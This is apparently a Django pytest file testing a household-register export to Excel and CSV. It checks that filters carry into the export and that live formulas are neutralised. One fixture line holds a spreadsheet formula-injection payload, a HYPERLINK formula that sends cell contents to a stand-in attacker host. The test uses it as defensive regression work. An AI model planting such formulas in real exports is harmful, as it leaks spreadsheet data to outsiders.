"""The household export (/households/export.xlsx and .csv) as an attacker met it: it wrote live formulas into the
workbook, ignored the list's filters and crashed on ``is_female_headed``. It exports what the list shows."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Role
from households.models import HouseholdStatus
from tests.factories import HouseholdFactory, VillageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


@pytest.fixture
def villages(unit):
    commune = unit("Xã Bộc Bố")
    return VillageFactory(parent=commune, name="Thôn Nà Hin"), VillageFactory(parent=commune, name="Thôn Khuổi Ha")


@pytest.fixture
def households(villages):
    first, second = villages
    return {
        "formula": HouseholdFactory(code="BB-01", village=first, address=FORMULA),
        "female": HouseholdFactory(code="BB-02", village=first, is_female_headed=True),
        "moved": HouseholdFactory(code="BB-03", village=second, status=HouseholdStatus.MOVED),
    }


@pytest.fixture
def officer_client(client, make_user, unit):
    client.force_login(make_user(Role.COMMUNE_OFFICER, [unit("Xã Bộc Bố")]))
    return client


def _xlsx_codes(response) -> list[str]:
    sheet = load_workbook(io.BytesIO(response.content))["Hộ gia đình"]
    return [row[0] for row in sheet.iter_rows(min_row=3, values_only=True)]


def _csv_codes(response) -> list[str]:
    return [row[0] for row in list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]]


def test_the_workbook_holds_no_formula(officer_client, households):
    response = officer_client.get(reverse("households:household-export", kwargs={"fmt": "xlsx"}))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content))["Hộ gia đình"]
    cells = [cell for row in sheet.iter_rows(min_row=3) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # The guard of the CSV and report writers: the text kept, behind an apostrophe.
    assert "'" + FORMULA in [cell.value for cell in cells]


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({}, ["BB-01", "BB-02", "BB-03"]),
        ({"status": HouseholdStatus.MOVED}, ["BB-03"]),
        ({"is_female_headed": "true"}, ["BB-02"]),
        ({"q": "BB-02"}, ["BB-02"]),
    ],
)
def test_the_export_keeps_the_lists_filters(officer_client, households, fmt, query, expected):
    response = officer_client.get(reverse("households:household-export", kwargs={"fmt": fmt}), query)
    assert response.status_code == 200
    assert (_xlsx_codes if fmt == "xlsx" else _csv_codes)(response) == expected


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_export_keeps_the_village_filter(officer_client, households, villages, fmt):
    response = officer_client.get(
        reverse("households:household-export", kwargs={"fmt": fmt}), {"village": villages[1].pk}
    )
    assert (_xlsx_codes if fmt == "xlsx" else _csv_codes)(response) == ["BB-03"]


def test_the_export_and_the_list_show_the_same_households(officer_client, households):
    query = {"status": HouseholdStatus.MOVED}
    listed = officer_client.get(reverse("households:household-list"), query).context["page"].object_list
    exported = officer_client.get(reverse("households:household-export", kwargs={"fmt": "csv"}), query)
    assert [h.code for h in listed] == _csv_codes(exported)
